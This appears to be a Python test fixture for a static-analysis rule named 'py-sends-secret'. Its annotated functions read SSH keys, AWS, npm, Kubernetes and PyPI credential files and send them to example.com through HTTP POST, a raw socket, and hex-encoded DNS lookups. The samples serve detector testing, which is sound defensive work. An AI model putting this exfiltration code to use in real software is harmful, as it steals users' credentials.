import os
import socket
from pathlib import Path

import requests
from requests import post as send


def one():
    with open(os.path.expanduser("~/.ssh/id_rsa")) as file:
        key = file.read()
    # ruleid: py-sends-secret
    requests.post("https://example.com", data={"k": key})


def several():
    loot = {}
    for path in ["~/.aws/credentials", "~/.npmrc"]:
        full = os.path.expanduser(path)
        if os.path.exists(full):
            loot[path] = open(full).read()
    # ruleid: py-sends-secret
    send("https://example.com", json=loot)


def by_socket():
    parts = []
    parts.append((Path.home() / ".kube" / "config").read_bytes())
    s = socket.create_connection(("example.com", 1))
    # ruleid: py-sends-secret
    s.sendall(b"".join(parts))


def by_dns():
    token = Path("~/.pypirc").expanduser().read_text()
    part = token.strip().encode().hex()
    # ruleid: py-sends-secret
    socket.gethostbyname(f"{part}.example.com")
